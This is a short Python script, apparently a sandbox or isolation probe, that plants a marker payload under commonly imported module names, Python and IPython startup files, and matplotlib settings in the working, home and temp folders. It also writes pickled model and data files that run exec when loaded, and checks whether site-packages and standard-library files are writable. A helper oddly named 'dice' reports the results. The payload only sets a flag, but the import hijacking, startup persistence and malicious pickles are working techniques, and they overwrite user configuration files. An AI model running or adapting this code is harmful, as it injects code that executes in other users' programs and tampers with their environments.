"""Leaves files under the names that others import and read: modules, caches, settings, weights, pickles.

Ends: Returned 'reached []'
"""

import json
import os
import pickle
import site
import sys

PROGRAM = "import builtins\nbuiltins.planted = True\n"
NAMES = """inside.py numpy.py json.py struct.py wire.py child.py sitecustomize.py usercustomize.py response.py
    conftest.py reference.py checks.py numpy/__init__.py IPython/__init__.py startup.pth .pythonrc.py matplotlibrc
    .ipython/profile_default/startup/first.py .config/matplotlib/matplotlibrc __pycache__/response.cpython-311.pyc""".split()
reached = []


class Order:
    def __reduce__(self):
        return exec, (PROGRAM,)


for folder in (".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")):
    for name in NAMES:
        path = os.path.join(folder, name)
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(PROGRAM)
    for name in ("weights.npy", "model.pt", "model.pkl", "data.npz", "cache.joblib"):
        with open(os.path.join(folder, name), "wb") as file:
            pickle.dump(Order(), file)
places = {*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__)} - {
    "",
    os.getcwd(),
}
for path in [
    *(os.path.join(place, "planted.pth") for place in places),
    os.__file__,
    site.__file__,
    json.__spec__.cached,
]:
    try:
        with open(path, "a"):
            reached.append(path)
    except OSError:
        pass


def dice(a, b):
    return f"reached {reached}"
